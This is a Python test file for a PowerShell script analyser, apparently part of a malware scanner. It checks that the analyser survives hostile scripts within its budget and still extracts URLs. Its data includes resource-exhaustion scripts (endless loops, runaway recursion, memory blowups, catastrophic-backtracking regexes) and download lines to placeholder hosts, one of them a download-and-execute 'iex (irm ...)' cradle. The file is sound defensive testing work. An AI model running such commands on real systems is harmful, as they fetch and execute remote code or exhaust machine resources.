"""Scripts that want to hold or crash their reader: all end inside their budget, and say so."""

from __future__ import annotations

import contextlib

import pytest
from evaluate.powershell.psrun import run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from emoscan.budget import Budget, LimitReached, Limits
from emoscan.evaluate.powershell.run import evaluate

SMALL = Limits(operations=200_000, strings_bytes=4 << 20, string_bytes=1 << 20)

ENDLESS = (
    "while($true){}",
    "for(;;){$i++}",
    "do{$x=1}until($false)",
    "while(1){foreach($i in 1..100){$j+=$i}}",
    "function f{f}; f",
    "function f($n){f ($n+1)}; f 1",
    "$x={& $x}; & $x",
    "$x='iex $x'; iex $x",
    "1..1000000 | % { $_ * 2 }",
    "$a=1..100000;$a|%{$b=$_;$a|%{$c=$_+$b}}",
    "$s='a'; while($true){$s=$s+$s}",
    "$s='a'*1000000000",
    "$a=,1; while($true){$a+=$a}",
    "$a=@(1)*1000000000",
    "'{0,2000000000}' -f 1",
    "'x'.PadLeft(2000000000)",
    "1..2147483647",
    "[char[]](1..100000000)",
    "New-Object byte[] 2000000000",
    "$s='a'; 1..64|%{$s=$s.Replace('a','aa')}",
    "$s='a'; 1..64|%{$s=$s -replace 'a','aa'}",
    "('a'*28+'!') -replace '(a+)+$','b'",
    "('a'*28+'!') -match '^(a|a)*$'",
    "[regex]::Replace(('a'*30),'(a*)*b','')",
    "('ab'*20000) -split '(a|b|ab)*c'",
    "[math]::Pow(10,1000000)",
    "[bigint]::Pow(10,100000000)",
    "2 -shl 2147483647",
    "Start-Sleep 1000000000",
    "while($true){Start-Sleep 1; (New-Object Net.WebClient).DownloadString('http://a.example.test/'+$i++)}",
    "$f={param($x) & $f $x}; & $f 1",
    "$h=@{}; $h.a=$h; $h|ConvertTo-Json -Depth 100",
    '$a=@(1); $a[0]=$a; "$a"',
    "switch(1){1{continue}}",
    "trap{continue}; throw 1",
)


@pytest.mark.parametrize("text", ENDLESS)
def test_scripts_without_end_end(text):
    out_of = None
    try:
        run(text + "\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')", Budget(SMALL))
    except LimitReached as limit:
        out_of = limit.name
    assert out_of in {None, "operations", "strings_bytes", "string_bytes", "expanded_bytes", "effects", "facts", "call_depth"}


def test_what_comes_after_a_loop_without_end_is_still_seen():
    assert run("while($true){$i++}\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')", Budget(SMALL)).urls == [
        "http://z.example.test/"
    ]


def test_what_comes_after_thousands_of_equal_effects_is_still_seen():
    out = run("1..5000 | % { Start-Process calc }\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')")
    assert sum(fact.count for fact in out.facts("effect.run")) == 5000
    assert out.urls == ["http://z.example.test/"]
    assert not out.problems


def test_a_loop_that_shows_nothing_within_one_that_shows_nothing_costs_little():
    budget = Budget(Limits())
    before = budget.left("operations")
    run("for (;;) { for ($i = 1; $i -le 5000; $i++) { if ((irm http://a.example.test/) -eq $i) { $x += 'a' } } }", budget)
    assert before - budget.left("operations") < 30_000


@pytest.mark.parametrize("text", ["& $PSCommandPath", "$x=(gc $PSCommandPath -Raw);iex $x", "powershell -File $PSCommandPath"])
def test_a_script_that_runs_itself_is_run_within_itself_a_few_times(text):
    out = run(text + "\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')")
    assert out.urls == ["http://z.example.test/"]
    assert not out.problems
    assert len(out.layers) < 10


def test_effects_that_differ_in_what_nobody_knows_are_nothing_new():
    out = run("$f = irm http://a.example.test/; $i = 0; while ($i -lt $f.Count) { Copy-Item $f[$i].Name ('C:\\x\\' + $f[$i].Name); $i++ }")
    assert len(out.facts("effect.write")) < 100


@pytest.mark.parametrize("opening", ["(", "{", "$(", "@(", "[", "&{", "if(1){", "'a'+(", '"$(', "@{a="])
def test_deep_nesting(opening):
    closing = {"(": ")", "{": "}", "[": "]", '"': '"', "@": ")", "$": ")"}
    run(opening * 5_000, Budget(SMALL))
    run(opening * 5_000 + closing.get(opening[-1], "}") * 5_000, Budget(SMALL))


def test_a_long_sum():
    text = "$x=" + "+".join(["'ab'"] * 50_000)
    run(text + ";(New-Object Net.WebClient).DownloadString('http://z.example.test/'+$x.Length)", Budget(Limits()))


def test_many_statements():
    out = run("$a=1;\n" * 30_000 + "(New-Object Net.WebClient).DownloadString('http://z.example.test/')")
    assert out.urls == ["http://z.example.test/"]


WORDS = st.sampled_from(
    "$x $_ = + - ( ) { } [ ] @( @{ ; | , 'a' \"b$x\" 1 0x41 -join -split -replace -f -bxor .. . :: & iex % foreach in if else while do until switch "
    "try catch finally function param return break continue throw trap [char] [int] [string] [convert] New-Object Net.WebClient .Length .Replace( "
    ".DownloadString( 'http://a.example.test/' @' '@ @\" \"@ ` # <# #> \n -eq -match !".split(" ")
)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(WORDS, max_size=40))
def test_no_script_crashes_its_reader(words):
    with contextlib.suppress(LimitReached):
        evaluate(" ".join(words), Budget(SMALL), lambda _item: None)


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=80))
def test_no_text_crashes_its_reader(text):
    with contextlib.suppress(LimitReached):
        evaluate(text, Budget(SMALL), lambda _item: None)


def test_what_stands_among_blocks_and_is_none_is_passed_over():
    text = "1..2 | % { (New-Object Net.WebClient).DownloadString('http://z.example.test/' + $_) } 'x' $null"
    assert run(text).urls == ["http://z.example.test/1", "http://z.example.test/2"]


def test_a_function_that_goes_two_ways_at_every_call_is_followed_some_of_them():
    text = (
        "$u = irm http://a.example.test/\nfunction f($n) { if ($u -eq $n) { if ($n -gt 0) { f ($n - 1) } } else { if ($n -gt 0) { f ($n - 1) } } }\n"
        "1..300 | % { f 12 }\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')"
    )
    budget = Budget(Limits())
    before = budget.left("operations")
    assert run(text, budget).urls == ["http://a.example.test/", "http://z.example.test/"]
    assert before - budget.left("operations") < 200_000


def test_the_way_that_goes_on_is_gone_when_both_were_seen_often_enough():
    text = "$u = irm http://a.example.test/\nforeach ($i in 1..500) { if ($u -eq $i) { continue } else { $k++ }; $n++ }\nirm http://z.example.test/$n"
    assert run(text).urls[1:] == ["http://z.example.test/500"]


def test_a_statement_nobody_can_read_is_taken_apart_once():
    out = run("1..50 | % { foo ]) ( iex (irm http://a.example.test/) ) }}")
    assert len(out.facts("eval.bad_statement")) == 2
    assert out.urls == ["http://a.example.test/"]


@pytest.mark.parametrize(
    "text",
    ["$a==New-Object x", "$a,=5", "[Math]::('Abs','Max')(1)", "[Math]::('PI','E')", "'a'[--1]", "++5", "--'x'", "[Math]::('PI','E')=3"],
)
def test_what_makes_no_sense_hides_nothing_behind_it(text):
    assert run(text + "\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')").urls == ["http://z.example.test/"]
